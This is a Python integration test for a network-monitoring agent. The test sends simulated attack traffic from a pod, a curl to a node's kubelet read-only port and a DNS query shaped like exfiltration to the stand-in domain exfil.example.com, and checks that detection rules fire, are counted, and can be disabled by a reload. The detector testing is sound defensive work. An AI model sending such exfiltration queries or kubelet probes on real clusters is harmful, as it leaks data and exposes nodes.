"""The built-in rules in the live agent: pods in network namespaces reach a node's kubelet read-only
port and send DNS queries shaped like exfiltration; the agent captures them on its rings and reports
each rule's finding once, with its metric, and never the query name. A SIGHUP that disables a rule
silences it.
"""
from __future__ import annotations

import signal
import struct
import subprocess
import sys

import orjson

from tests.test_run import ROOT, V4, Node, _free_port, _get, _samples, _wait, cluster_objects, node  # noqa: F401

NODE_IP = "172.18.0.2"  # node-1's InternalIP in cluster_objects(), held by the node namespace's bridge
EXFIL = "mzxw6ytboi2dqnzrgq3tmmrzgiytmobsha2teojugi3dkmjqgezdgnbv.exfil.example.com"
# A DNS server that answers every query with an empty answer (RFC 1035 §4.1.1: QR set, NOERROR).
DNS_SERVER = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 53))
print("listening", flush=True)
while True:
    query, peer = s.recvfrom(512)
    s.sendto(query[:2] + b"\\x81\\x80" + query[4:], peer)
"""


def _query(name: str) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\x00" + struct.pack("!HH", 1, 1)


def _resolve(node: Node, pod: str, server: str, name: str) -> None:
    code = ("import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); "
            f"s.sendto(bytes.fromhex(sys.argv[1]), ({server!r}, 53)); s.recvfrom(512)")
    node.run(node.pod_ns(pod), sys.executable, "-c", code, _query(name).hex())


def test_rules_fire_on_live_traffic_once_each_and_a_reload_disables_one(node, tmp_path):
    for pod in ("client", "web"):
        node.add_pod(pod)
    node.run(node.ns, "ip", "addr", "add", f"{NODE_IP}/24", "dev", "br0")
    node.run(node.ns, "ip", "addr", "add", V4.format(1) + "/24", "dev", "br0")  # the way back to the pods
    node.run(node.pod_ns("client"), "ip", "route", "add", "172.18.0.0/24", "dev", "eth0")
    node.start(node.ns, sys.executable, "-m", "http.server", "10255", "--bind", NODE_IP, "--directory", str(tmp_path))
    dns = node.start(node.pod_ns("web"), sys.executable, "-c", DNS_SERVER, V4.format(3), stdout=subprocess.PIPE)
    assert dns.stdout.readline() == b"listening\n"
    _wait(lambda: ":10255 " in node.run(node.ns, "ss", "-ltnH").stdout.decode(), 10, "the read-only port")

    cluster, config = tmp_path / "cluster.json", tmp_path / "flowwarden.yaml"
    cluster.write_bytes(orjson.dumps({"apiVersion": "v1", "kind": "List", "items": cluster_objects()}))
    config.write_text("rules:\n  dns-exfil-shape: {enabled: true}\n")
    events, port = tmp_path / "events.jsonl", _free_port()
    with open(tmp_path / "agent.log", "wb") as log:
        agent = node.start(node.ns, sys.executable, "-m", "agent.cli", "run", "--cluster", str(cluster),
                           "--config", str(config), "--interfaces", "vh*,br0", "--listen", f"127.0.0.1:{port}",
                           "--events", str(events), stderr=log, cwd=str(ROOT))
    _wait(lambda: _get(node, port, "/readyz")[0] == 200, 20, "/readyz")

    curl = ("curl", "-sf", "-o", "/dev/null", "-m", "5", f"http://{NODE_IP}:10255/")
    assert node.run(node.pod_ns("client"), *curl, check=False).returncode == 0
    for name in (EXFIL, "kubernetes.default.svc.cluster.local"):
        _resolve(node, "client", V4.format(3), name)
    lines = lambda: [orjson.loads(line) for line in events.read_bytes().splitlines()]  # noqa: E731
    rules = lambda: sorted((e["rule"], e["dst"]["port"]) for e in lines() if e["kind"] == "rule")  # noqa: E731
    _wait(lambda: rules() == [("dns-exfil-shape", 53), ("kubelet-access", 10255)], 10, "the two rule events")
    metrics = _samples(_get(node, port, "/metrics")[1])
    counted = {dict(labels)["rule"]: v for (name, labels), v in metrics.items()
               if name == "flowwarden_violations_total" and dict(labels)["kind"] == "rule"}
    assert counted == {"dns-exfil-shape": 1, "kubelet-access": 1}
    [exfil] = [e for e in lines() if e.get("rule") == "dns-exfil-shape"]
    assert exfil["dns"]["domain"] == "example.com" and exfil["src"]["pod"] == "client"
    assert b"exfil.example.com" not in events.read_bytes()

    # Disabled by a reload: the same request again is no finding (its repeat would be counted and written
    # as a follow-up line at SIGTERM); the exfil query's repeat is.
    config.write_text("rules:\n  dns-exfil-shape: {enabled: true}\n  kubelet-access: {enabled: false}\n")
    agent.send_signal(signal.SIGHUP)
    _wait(lambda: b"reloaded" in (tmp_path / "agent.log").read_bytes(), 15, "the reload")
    assert node.run(node.pod_ns("client"), *curl, check=False).returncode == 0
    _resolve(node, "client", V4.format(3), EXFIL)
    rule_count = lambda rule: _samples(_get(node, port, "/metrics")[1]).get(  # noqa: E731
        ("flowwarden_violations_total", (("dst_namespace", "shop" if rule == "dns-exfil-shape" else ""),
                                         ("kind", "rule"), ("rule", rule), ("severity", "warning" if rule ==
                                         "dns-exfil-shape" else "critical"), ("side", "both"),
                                         ("src_namespace", "frontend"))))
    _wait(lambda: rule_count("dns-exfil-shape") == 2, 10, "the repeated exfil query")
    assert rule_count("kubelet-access") == 1
    agent.send_signal(signal.SIGTERM)
    assert agent.wait(timeout=10) == 0
    assert sorted((e["rule"], e["follow_up"], e["count"]) for e in lines() if e["kind"] == "rule") == [
        ("dns-exfil-shape", False, 1), ("dns-exfil-shape", True, 1), ("kubelet-access", False, 1)]
